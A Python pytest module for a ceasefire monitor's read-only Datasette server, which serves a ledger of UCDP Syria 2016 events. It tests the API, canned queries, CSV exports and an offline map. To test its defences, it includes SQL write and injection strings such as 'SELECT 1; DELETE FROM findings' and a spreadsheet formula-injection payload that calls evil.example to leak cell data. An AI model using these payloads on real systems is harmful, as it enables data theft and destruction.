"""`monitor serve`: the ledger read-only in Datasette, canned queries, and an offline map.

A real ledger (real UCDP 2016 events of August and September, through the one path) is served
by a real `monitor serve` subprocess on 127.0.0.1; httpx checks the JSON API and Debian's
headless chromium renders the pages with every host but 127.0.0.1 unresolvable, its network
log proving the pages asked for nothing else. Screenshots stay in var/test-artifacts/.
"""

from __future__ import annotations

import csv
import datetime as dt
import json
import os
import re
import socket
import sqlite3
import subprocess
import sys
import time
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit
from zoneinfo import ZoneInfo

import httpx
import pytest
from click.testing import CliRunner

from monitor.adapters.ucdp import to_report
from monitor.cli import main
from monitor.config import PROJECT_ROOT, Pack
from monitor.datasette.geo import GeoLayers
from monitor.datasette.metadata import QUERIES, TABLES, VIEWS, build_metadata, missing_queries
from monitor.datasette.plugin import day_functions
from monitor.ledger import Ledger
from monitor.service import Monitor

UCDP = PROJECT_ROOT / "feeds" / "data" / "ged_syria_2016.csv"
CHROMIUM = Path("/usr/bin/chromium")
ARTIFACTS = PROJECT_ROOT / "var" / "test-artifacts"
LOCAL = "127.0.0.1"


def ucdp_rows(start: str, end: str) -> list[dict[str, Any]]:
    with UCDP.open(newline="", encoding="utf-8") as fh:
        return [r for r in csv.DictReader(fh) if start <= r["date_start"] < end]


def submit(pack: Pack, path: Path, rows: list[dict[str, Any]]) -> None:
    ledger = Ledger.open(path)
    try:
        Monitor(pack, ledger).submit([(f"row {r['id']}", to_report(r, "ucdp", "B"))
                                      for r in rows])
    finally:
        ledger.close()


def scalar(path: Path, sql: str) -> Any:
    conn = sqlite3.connect(path.resolve().as_uri() + "?mode=ro", uri=True)
    try:
        return conn.execute(sql).fetchone()[0]
    finally:
        conn.close()


@pytest.fixture(scope="module")
def ledger_path(pack: Pack, tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("serve") / "ledger.db"
    # ~1,500 events, >1000 findings (TERMS.md revision 2: a clash is one finding, not two)
    submit(pack, path, ucdp_rows("2016-07-01", "2016-10-01"))
    return path


def free_port() -> int:
    with socket.socket() as s:
        s.bind((LOCAL, 0))
        return s.getsockname()[1]


@pytest.fixture(scope="module")
def server(ledger_path: Path) -> Iterator[str]:
    port = free_port()
    log = ledger_path.parent / "serve.log"
    with log.open("wb") as out:
        proc = subprocess.Popen(
            [sys.executable, "-m", "monitor", "--config", str(PROJECT_ROOT / "config"),
             "--db", str(ledger_path), "serve", "--host", LOCAL, "--port", str(port)],
            cwd=PROJECT_ROOT, stdout=out, stderr=subprocess.STDOUT)
    base = f"http://{LOCAL}:{port}"
    try:
        deadline = time.monotonic() + 60
        while True:
            if proc.poll() is not None:
                pytest.fail(f"monitor serve exited {proc.returncode}: {log.read_text()}")
            try:
                if httpx.get(f"{base}/-/versions.json", timeout=2).status_code == 200:
                    break
            except httpx.TransportError:
                pass
            if time.monotonic() > deadline:
                pytest.fail(f"monitor serve did not answer in 60 s: {log.read_text()}")
            time.sleep(0.2)
        yield base
    finally:
        proc.terminate()
        try:
            proc.wait(timeout=10)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait(timeout=10)


def get(url: str, **params: str) -> Any:
    response = httpx.get(url, params=params, timeout=30)
    assert response.status_code == 200, response.text[:500]
    return response.json()


# --- the JSON API ------------------------------------------------------------------------


def test_the_api_lists_the_tables_and_views_with_their_descriptions(server, ledger_path):
    db = get(f"{server}/ledger.json")
    tables = {t["name"]: t for t in db["tables"]}
    assert set(TABLES) <= set(tables) and set(VIEWS) <= {v["name"] for v in db["views"]}
    assert tables["_sqlite_migrations"]["hidden"] and not tables["findings"]["hidden"]
    assert tables["findings"]["count"] == scalar(ledger_path, "SELECT count(*) FROM findings")
    described = get(f"{server}/-/metadata.json")["databases"]["ledger"]["tables"]
    for name in [*TABLES, *VIEWS]:
        assert described[name]["description"], name
    assert "charged_to" in described["findings"]["columns"]
    assert {q["name"] for q in db["queries"]} == set(QUERIES)


def test_canned_queries_answer_the_common_questions(server, ledger_path):
    current = scalar(ledger_path, "SELECT count(*) FROM current_findings")
    assert current > 1000  # so the map has to page
    status = get(f"{server}/ledger/current_status.json", _shape="objects", _size="max",
                 term="JIG-SAAF")["rows"]
    assert status and {r["term"] for r in status} == {"JIG-SAAF"}
    # one row per charged set: "russia or syrian_government" is not Russia's own row
    party = get(f"{server}/ledger/current_status.json", _shape="array",
                party="russia or syrian_government")
    assert party and all(sorted(json.loads(r["charged_to"])) == ["russia", "syrian_government"]
                         for r in party)
    # the scorecard of a week adds up to that week's charges in the ledger
    week = get(f"{server}/ledger/scorecard_for_period.json", _shape="array",
               since="2016-09-12", until="2016-09-19")
    # the days of the period are named by the cut-offs that end them: 13 to 19 Sep
    assert week and all(r["first_day"] > "2016-09-12" and r["last_day"] <= "2016-09-19"
                        for r in week)
    per_day = get(f"{server}/ledger/per_party_per_day.json", _shape="array",
                  since="2016-09-12", until="2016-09-19")
    assert sum(r["findings"] for r in week) == sum(r["findings"] for r in per_day)
    calm = get(f"{server}/ledger/calm_series.json", _shape="array", counter="SEP-CALM")
    assert [r["day"] for r in calm] == sorted({r["day"] for r in calm}) and calm
    assert {r["counter"] for r in calm} == {"SEP-CALM"}
    assert get(f"{server}/ledger/feed_health.json", _shape="array") == []  # no daemon ran
    alerts = get(f"{server}/ledger/alerts_in_force.json", _shape="array")
    assert {a["kind"] for a in alerts} <= {"escalation", "cycle_of_excuses"}
    # the map's query: one row per current finding, with a point, in pages by seq
    first = get(f"{server}/ledger/findings_map.json", _shape="objects")
    assert len(first["rows"]) == 1000 and not first["truncated"]
    rest = get(f"{server}/ledger/findings_map.json", _shape="objects",
               after_seq=str(first["rows"][-1]["seq"]))["rows"]
    rows = first["rows"] + rest
    assert len(rows) == len({r["finding_id"] for r in rows}) == current
    assert all(-90 <= r["latitude"] <= 90 and -180 <= r["longitude"] <= 180 for r in rows)


@pytest.mark.parametrize("sql", [
    "DELETE FROM findings",
    "INSERT INTO reviews (seq, recorded_at, prev_hash, hash) VALUES (0, 'x', 'x', 'x')",
    # passes Datasette's SELECT/WITH check, so SQLite's read-only connection must refuse it
    "WITH x AS (SELECT 1) INSERT INTO reviews (seq, recorded_at, prev_hash, hash) "
    "SELECT 0, 'x', 'x', 'x' FROM x",
    "SELECT 1; DELETE FROM findings",
    "PRAGMA query_only = 0",
])
def test_writes_through_the_sql_api_are_refused(server, ledger_path, sql):
    before = scalar(ledger_path, "SELECT max(seq) FROM findings")
    response = httpx.get(f"{server}/ledger.json", params={"sql": sql}, timeout=30)
    body = response.json()
    assert body["ok"] is False, body
    assert re.search(r"must be a SELECT|readonly|one statement", body["error"]), body["error"]
    assert httpx.post(f"{server}/ledger/findings", timeout=30).status_code >= 400
    assert scalar(ledger_path, "SELECT max(seq) FROM findings") == before
    assert scalar(ledger_path, "SELECT count(*) FROM reviews WHERE seq = 0") == 0


def test_packed_bodies_and_resolutions_are_served_whole(server, ledger_path):
    """Past a feed's first reports, bodies and resolutions are stored compressed
    (monitor.ledger.packing): Datasette's views read them whole through ledger_json."""
    packed = scalar(ledger_path, "SELECT count(*) FROM reports WHERE body LIKE '\"zstd:%'")
    assert packed > 100
    served = get(f"{server}/ledger.json", sql="SELECT report_key, body FROM reports_received "
                 "WHERE report_key IN (SELECT report_key FROM reports WHERE body LIKE "
                 "'\"zstd:%' ORDER BY seq LIMIT 20)", _shape="array")
    resolved = get(f"{server}/ledger.json", sql="SELECT i.report_key, i.resolution FROM "
                   "incidents_resolved i WHERE i.report_key IN (SELECT report_key FROM "
                   "incidents WHERE resolution LIKE '\"zstd:%' ORDER BY seq LIMIT 20)",
                   _shape="array")
    ledger = Ledger.open(ledger_path, readonly=True)
    try:
        assert len(served) == len(resolved) == 20
        for row in served:
            assert json.loads(row["body"]) == ledger.report(row["report_key"])["body"]
        whole = {r["report_key"]: r["resolution"] for r in ledger.incident_rows()}
        for row in resolved:
            assert json.loads(row["resolution"]) == whole[row["report_key"]]
    finally:
        ledger.close()


def test_what_is_recorded_while_serving_is_served_at_once(server, ledger_path, pack):
    """Read-only, not immutable: rows still in the WAL are seen without a restart."""
    def served() -> int:
        return get(f"{server}/ledger.json", sql="SELECT count(*) AS n FROM reports",
                   _shape="array")[0]["n"]

    before = served()
    october = ucdp_rows("2016-10-01", "2016-10-03")
    submit(pack, ledger_path, october)
    assert served() == before + len(october) > before


@pytest.mark.parametrize("path, params", [
    ("/ledger.csv", {"sql": "SELECT report_key, json_extract(body, '$.notes') AS notes "
                            "FROM reports WHERE report_key LIKE 'manual:csv-%'"}),
    ("/ledger/incidents.csv", {"_stream": "on", "report_key__startswith": "manual:csv-"}),
], ids=["sql-result", "streamed-table"])
def test_csv_exports_neutralise_formula_cells(server, ledger_path, pack, path, params):
    """As the CLI's exports do: a cell that a spreadsheet would run is prefixed with "'"."""
    ledger = Ledger.open(ledger_path)
    try:
        Monitor(pack, ledger).submit([("h", {
            "feed": "manual", "source_id": "csv-1", "occurred": "2016-09-15",
            "attacker": "Syrian air force", "target": "civilians",
            "location": {"lat": 36.2, "lon": 37.1, "precision": 1,
                         "place": '=HYPERLINK("http://evil.example/?"&A1,"place")'},
            "notes": '=HYPERLINK("http://evil.example/?"&A1,"click")'})])
    finally:
        ledger.close()
    response = httpx.get(server + path, params=params, timeout=60)
    assert response.status_code == 200, response.text[:300]
    rows = list(csv.reader(response.text.splitlines()))
    cells = [c for row in rows for c in row]
    assert any(c.startswith("'=HYPERLINK(") for c in cells)
    assert not any(c.startswith(("=", "+", "@")) for c in cells)


# --- the browser -------------------------------------------------------------------------


class Elements(HTMLParser):
    """Every element of a dumped DOM as (tag, attributes, text directly inside it)."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.html = html
        self.found: list[list[Any]] = []
        self._open: list[list[Any]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        element = [tag, {k: v or "" for k, v in attrs}, ""]
        self.found.append(element)
        if tag not in ("img", "input", "link", "meta", "br", "hr", "path", "source"):
            self._open.append(element)

    def handle_endtag(self, tag: str) -> None:
        while self._open and self._open.pop()[0] != tag:
            pass

    def handle_data(self, data: str) -> None:
        if self._open:
            self._open[-1][2] += data

    def having(self, tag: str, css_class: str) -> list[list[Any]]:
        return [e for e in self.found
                if e[0] == tag and css_class in e[1].get("class", "").split()]


def chromium(url: str, tmp: Path, *mode: str) -> str:
    """Run headless chromium on ``url`` with every host but 127.0.0.1 unresolvable."""
    if not os.access(CHROMIUM, os.X_OK):
        pytest.skip(f"{CHROMIUM} is not installed (Debian package chromium): the browser "
                    "checks need it")
    result = subprocess.run(
        [str(CHROMIUM), "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic",
         "--no-first-run", "--disable-background-networking", "--disable-component-update",
         "--disable-sync", f"--user-data-dir={tmp / 'profile'}",
         f'--host-resolver-rules=MAP * ~NOTFOUND , EXCLUDE {LOCAL}',
         "--virtual-time-budget=10000", "--window-size=1280,1000", *mode, url],
        capture_output=True, text=True, timeout=120)
    assert result.returncode == 0, result.stderr[-2000:]
    return result.stdout


def page_requests(netlog: Path, origin: str) -> list[str]:
    """The URLs the page itself asked for (initiator = its origin), from a chromium net log;
    the browser's own background requests have no origin and are left out."""
    log = json.loads(netlog.read_text(encoding="utf-8"))
    start = log["constants"]["logEventTypes"]["URL_REQUEST_START_JOB"]
    return [e["params"]["url"] for e in log["events"] if e["type"] == start
            and e.get("params", {}).get("initiator") == origin]


def offline_dom(url: str, tmp: Path, origin: str, name: str) -> Elements:
    """The page's DOM after it ran, a screenshot in ARTIFACTS, and the proof that every
    request the page made went to this server."""
    netlog = tmp / f"{name}-netlog.json"
    dom = chromium(url, tmp, f"--log-net-log={netlog}", "--dump-dom")
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    chromium(url, tmp, f"--screenshot={ARTIFACTS / f'{name}.png'}")
    assert (ARTIFACTS / f"{name}.png").stat().st_size > 10_000
    requested = page_requests(netlog, origin)
    assert requested, "the net log shows no request by the page: is the format still the same?"
    outside = [u for u in requested if urlsplit(u).netloc != urlsplit(origin).netloc]
    assert not outside, f"the page asked for external URLs: {outside}"
    return Elements(dom)


@pytest.mark.parametrize("path", [
    "/", "/ledger", "/ledger/findings", "a finding's row", "/ledger/current_findings",
    "/ledger/incidents", "/ledger/scorecard", "/-/findings-map", "/-/plugins",
    *(f"/ledger/{name}" for name in QUERIES),
])
def test_every_page_answers_and_loads_nothing_from_elsewhere(server, path):
    if path == "a finding's row":
        first = get(f"{server}/ledger/findings.json", _shape="array", _size="1")[0]
        path = f"/ledger/findings/{first['seq']}"
    response = httpx.get(f"{server}{path}", timeout=30)
    assert response.status_code == 200, response.text[:1000]
    page = Elements(response.text)
    assets = [e[1].get("src") or e[1].get("href") or "" for e in page.found
              if e[0] in ("script", "img", "link", "iframe")]
    elsewhere = [a for a in assets if re.match(r"(https?:)?//", a)
                 and urlsplit(a).netloc != urlsplit(server).netloc]
    assert not elsewhere, elsewhere


@pytest.mark.slow  # a real browser draws every finding on the map (make test-slow)
def test_the_findings_map_draws_every_finding_over_a_local_base_map(server, ledger_path,
                                                                     tmp_path):
    page = offline_dom(f"{server}/-/findings-map", tmp_path, server, "findings-map")
    current = scalar(ledger_path, "SELECT count(*) FROM current_findings")
    (canvas,) = [e for e in page.found if e[1].get("id") == "findings-map"]
    assert canvas[1].get("data-ready") == "1", canvas[1].get("data-error")
    assert "leaflet-container" in canvas[1]["class"].split()
    markers = page.having("path", "finding-marker")  # Leaflet's SVG circle markers
    assert int(canvas[1]["data-markers"]) == len(markers) == current
    assert int(canvas[1]["data-zones"]) > 5  # the delineation in force is drawn
    labels = {e[2].strip() for e in page.having("div", "gov-label")}
    assert {"Aleppo", "Idleb", "Dar'a", "Damascus"} <= labels  # the governorates
    status = next(e for e in page.found if e[1].get("id") == "findings-map-status")
    assert f"{current} finding(s)" in status[2]
    # the filters go to the canned query: one charged set (Russia's own row), fewer markers
    one = offline_dom(f"{server}/-/findings-map?party=russia", tmp_path, server,
                      "findings-map-russia")
    russia = scalar(ledger_path, "SELECT count(*) FROM current_findings f WHERE "
                                 "f.charged_to = '[\"russia\"]'")
    assert 0 < len(one.having("path", "finding-marker")) == russia < current


def test_a_canned_query_page_shows_its_rows_and_a_map_on_local_tiles(server, tmp_path):
    url = f"{server}/ledger/findings_map?term=JIG-SAAF"
    page = offline_dom(url, tmp_path, server, "findings-map-query")
    expected = get(f"{server}/ledger/findings_map.json", _shape="objects", term="JIG-SAAF")
    table_rows = len([e for e in page.found if e[0] == "tr"]) - 1  # less the header row
    assert table_rows == len(expected["rows"]) > 0
    tiles = page.having("img", "leaflet-tile-loaded")  # the base map loaded, from us
    assert tiles and all(t[1]["src"].startswith("/-/monitor/tiles/") for t in tiles)
    clusters = sum(map(int, re.findall(r'class="[^"]*marker-cluster[^"]*"[^>]*><div><span>'
                                       r'(\d+)</span>', page.html)))
    singles = len(page.having("img", "leaflet-marker-icon"))
    assert clusters + singles == len(expected["rows"])  # every row is on the map


# --- without a server --------------------------------------------------------------------


def test_every_table_view_and_column_of_a_fresh_ledger_is_described(tmp_path):
    Ledger.open(tmp_path / "ledger.db").close()
    conn = sqlite3.connect(tmp_path / "ledger.db")
    relations = dict(conn.execute("SELECT name, type FROM sqlite_master WHERE type IN "
                                  "('table', 'view')").fetchall())
    metadata = build_metadata("test", set(relations))
    tables = metadata["databases"]["ledger"]["tables"]
    for name, kind in relations.items():
        assert tables.get(name, {}).get("description"), f"{kind} {name} has no description"
        if kind == "table" and not tables[name].get("hidden"):
            columns = [r[1] for r in conn.execute(f"PRAGMA table_info({name})")]
            missing = set(columns) - set(tables[name]["columns"])
            assert not missing, f"{name}: columns without a description: {missing}"
    # every canned query is valid SQL on it, with every filter left empty
    for query in metadata["databases"]["ledger"]["queries"].values():
        params = dict.fromkeys(re.findall(r":(\w+)", query["sql"]), "")
        day_functions(conn, ZoneInfo("Asia/Damascus"), dt.time(19, 30))  # as `monitor serve`
        conn.execute(query["sql"], params).fetchall()
    assert metadata["plugins"]["datasette-cluster-map"]["tile_layer"].startswith("/-/")
    conn.close()


def test_tiles_draw_the_governorates_and_nothing_outside_the_world(pack):
    layers = GeoLayers.build(pack.folder / pack.spec.boundaries, pack.zones, "OCHA")
    aleppo = layers.tile(7, 77, 50).decode()  # Aleppo, zoom 7
    assert aleppo.startswith("<svg") and 'd="M' in aleppo and ">Aleppo</text>" in aleppo
    assert "<path d=\"\"" in layers.tile(7, 0, 0).decode()  # the Pacific: no land
    jebel_saman = layers.tile(10, 617, 401).decode()  # west Aleppo: sub-districts from z9
    assert 'stroke-dasharray="4 3"' in jebel_saman and ">Jebel Saman</text>" in jebel_saman
    with pytest.raises(ValueError):
        layers.tile(3, 8, 0)
    zones = json.loads(layers.zones)["features"]
    assert len(zones) == len(pack.zones.describe()) and all(z["geometry"] for z in zones)


def test_serve_refuses_a_missing_ledger(tmp_path):
    result = CliRunner().invoke(main, ["--db", str(tmp_path / "none.db"), "serve"])
    assert result.exit_code == 1 and "no ledger file" in result.output


def test_serve_refuses_a_port_in_use_before_saying_it_serves(server, ledger_path):
    port = urlsplit(server).port
    result = CliRunner().invoke(main, ["--db", str(ledger_path), "serve", "--port", str(port)])
    assert result.exit_code == 1 and "cannot listen" in result.output
    assert "Serving" not in result.output


def test_a_ledger_older_than_its_views_is_served_without_the_queries_that_need_them():
    available = set(TABLES) | {"finding_status", "report_incident"}
    queries = build_metadata("test", available)["databases"]["ledger"]["queries"]
    assert set(queries) == {"alerts_in_force", "calm_series"}
    assert set(missing_queries(available)) == set(QUERIES) - set(queries)


@pytest.mark.parametrize("module", ["datasette", "datasette_cluster_map", "datasette_leaflet",
                                    "uvicorn"])
def test_serve_without_datasette_says_how_to_install_it(tmp_path, monkeypatch, module):
    monkeypatch.setitem(sys.modules, module, None)  # `import module` now fails, as if missing
    result = CliRunner().invoke(main, ["--db", str(tmp_path / "none.db"), "serve"])
    assert result.exit_code == 1
    assert result.output == (f"Error: monitor serve needs Datasette, which is not installed "
                             f"here ({module} is missing): pip install "
                             "'ceasefire-monitor[serve]'\n")


def test_nothing_but_serve_imports_datasette():
    """Datasette is the `serve` extra: every other module, and the CLI, import without it."""
    script = (
        "import importlib, pathlib, sys\n"
        "from click.testing import CliRunner\n"
        "from monitor.cli import main\n"
        "for path in sorted(pathlib.Path('monitor').rglob('*.py')):\n"
        "    name = '.'.join(path.with_suffix('').parts).removesuffix('.__init__')\n"
        "    if not name.startswith(('monitor.datasette', 'monitor.__main__')):\n"
        "        importlib.import_module(name)\n"
        "assert CliRunner().invoke(main, ['--help']).exit_code == 0\n"
        "print(sorted(n for n in sys.modules if n.split('.')[0] in\n"
        "             ('datasette', 'datasette_cluster_map', 'datasette_leaflet', 'uvicorn')))\n")
    out = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True,
                         check=True, cwd=PROJECT_ROOT)
    assert out.stdout.strip() == "[]", out.stdout


def test_serve_answers_only_its_own_host_names(server):
    """DNS rebinding: a page elsewhere that points its own name at 127.0.0.1 is refused."""
    ok = httpx.get(f"{server}/-/versions.json", timeout=10)
    assert ok.status_code == 200
    rebound = httpx.get(f"{server}/-/versions.json", headers={"Host": "evil.example:80"},
                        timeout=10)
    assert rebound.status_code == 421 and "Misdirected" in rebound.text
    local = httpx.get(f"{server}/-/versions.json", headers={"Host": "localhost"}, timeout=10)
    assert local.status_code == 200


@pytest.mark.slow  # waits out serve's time limit on a query (make test-slow)
def test_a_slow_query_in_serve_stops_and_others_are_answered(server):
    import threading

    slow: dict[str, Any] = {}

    def run_slow() -> None:
        slow["response"] = httpx.get(f"{server}/ledger.json", params={
            "sql": "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) "
                   "SELECT max(i) FROM n"}, timeout=60)
    thread = threading.Thread(target=run_slow)
    thread.start()
    fast = httpx.get(f"{server}/ledger.json", params={"sql": "SELECT 1 AS one",
                                                        "_shape": "array"}, timeout=60)
    assert fast.status_code == 200 and fast.json() == [{"one": 1}]
    thread.join(60)
    assert slow["response"].status_code == 400
    assert "interrupted" in slow["response"].text.lower() or "time limit" in slow[
        "response"].text.lower()


def test_the_pages_open_on_what_matters(server, tmp_path):
    """The home page leads to the findings, the map and every canned query; a table's column
    descriptions fold behind a toggle; the footer is one short line of licences."""
    home = offline_dom(f"{server}/", tmp_path, server, "home")
    hrefs = [e[1].get("href", "") for e in home.found if e[0] == "a"]
    assert all(any(h.endswith(f"/ledger/{name}") for h in hrefs) for name in QUERIES)
    assert any("/ledger/findings?_sort_desc=occurred" in h for h in hrefs)
    from monitor.datasette.metadata import FINDINGS_PAGE

    page = offline_dom(f"{server}/{FINDINGS_PAGE}", tmp_path, server, "findings")
    toggles = [e for e in page.found if e[0] == "details"
               and "column-descriptions-toggle" in e[1].get("class", "")]
    assert len(toggles) == 1
    headers = [e[1].get("data-column") for e in page.found if e[0] == "th"
               and e[1].get("data-column")]
    # the row link (seq), then what the finding is; the chain's columns are left out
    assert headers[1:4] == ["finding_id", "incident_id", "term"] and "hash" not in headers
    footer = httpx.get(f"{server}/ledger/findings", timeout=30).text.split("<footer")[1]
    assert "CC BY 4.0 (UCDP)" in footer and "Georeferenced Event Dataset" not in footer


def test_one_period_gives_one_count_in_the_brief_the_cli_and_datasette(server, ledger_path,
                                                                        pack):
    """12-19 Sep, syrian_government, COH-GOV: the brief, `monitor findings` and Datasette's
    scorecard count the same findings (one rule: cut-off to cut-off)."""
    from monitor import report

    ledger = Ledger.open(ledger_path, readonly=True)
    try:
        html = report.brief(ledger, pack, dt.date(2016, 9, 12), dt.date(2016, 9, 19), "html")
    finally:
        ledger.close()
    cell = re.search(r'<tr data-party="syrian_government">.*?data-key="term:COH-GOV" '
                     r'data-count="(\d+)"', html, re.S)
    in_brief = int(cell.group(1)) if cell else 0
    out = CliRunner().invoke(main, ["--config", str(PROJECT_ROOT / "config"), "--db",
                                    str(ledger_path), "findings", "--party", "syrian_government",
                                    "--term", "COH-GOV", "--since", "2016-09-12", "--until",
                                    "2016-09-19", "--limit", "0", "--format", "json"])
    in_cli = len([f for f in json.loads(out.output)
                  if f["status"] not in ("disputed", "discounted", "superseded", "retracted")])
    rows = get(f"{server}/ledger/scorecard_for_period.json", since="2016-09-12",
               until="2016-09-19", _shape="array")
    in_datasette = sum(r["findings"] for r in rows
                       if r["party"] == "syrian_government" and r["term"] == "COH-GOV")
    assert in_brief == in_cli == in_datasette > 0
